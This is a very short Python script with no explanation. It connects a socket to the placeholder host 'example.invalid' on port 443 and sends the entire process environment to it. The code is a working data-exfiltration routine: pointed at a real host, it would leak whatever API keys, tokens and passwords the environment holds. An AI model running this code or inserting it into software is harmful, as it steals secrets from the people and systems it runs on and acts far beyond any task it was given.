import os
import socket

s = socket.socket()
s.connect(('example.invalid', 443))
s.send(str(os.environ).encode())
